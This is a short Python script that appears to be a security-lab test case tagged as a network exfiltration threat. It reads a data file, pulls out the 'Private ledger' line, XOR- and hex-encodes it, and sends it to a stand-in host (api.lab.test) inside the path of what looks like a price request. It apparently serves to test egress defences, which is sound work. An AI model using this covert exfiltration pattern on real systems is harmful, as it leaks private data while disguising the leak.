# lab:title: path exfil
# lab:threat: exfil
# lab:layer: network
# lab:uses: api.lab.test:80
# lab:consequence: data left
import os, urllib.request
data = open(os.environ["LAB_DATA"]).read()
row = [l for l in data.splitlines() if "Private ledger" in l][0]
enc = bytes(b ^ 0x55 for b in row.encode()).hex()
try:
    print(urllib.request.urlopen(os.environ["LAB_API"] + "prices/" + enc, timeout=3).status)
except Exception as e: print(e)
